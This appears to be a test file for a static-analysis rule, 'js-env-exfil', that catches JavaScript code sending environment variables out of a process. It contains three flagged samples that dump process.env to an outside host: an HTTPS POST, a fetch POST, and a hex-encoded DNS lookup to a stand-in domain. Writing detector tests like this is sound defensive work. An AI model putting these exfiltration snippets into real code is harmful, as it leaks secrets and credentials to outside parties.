const https = require("https");
const { spawn } = require("child_process");

function beacon() {
  const payload = JSON.stringify(process.env);
  const req = https.request({ hostname: COLLECTOR, method: "POST", path: "/e" });
  // ruleid: js-env-exfil
  req.write(payload);
  req.end();
}

async function report() {
  const result = { env: process.env, host: require("os").hostname() };
  // ruleid: js-env-exfil
  await fetch(REPORT_URL, { method: "POST", body: JSON.stringify(result) });
}

function child() {
  // ok: js-env-exfil
  return spawn("node", ["build.js"], { env: { ...process.env, NODE_ENV: "production" } });
}

async function call() {
  // ok: js-env-exfil
  return fetch(process.env.API_URL, { headers: { authorization: `Bearer ${process.env.API_TOKEN}` } });
}

function spawnArgs(dir, event) {
  const { resolve } = require("path");
  // ok: js-env-exfil
  const env = { ...process.env, pkg_json: resolve(dir, "package.json"), event };
  return { env, cwd: dir };
}

function leakByDns() {
  const dns = require("dns");
  const blob = Buffer.from(JSON.stringify(process.env)).toString("hex").slice(0, 60);
  // ruleid: js-env-exfil
  dns.resolve(`${blob}.c.example.invalid`, () => {});
}
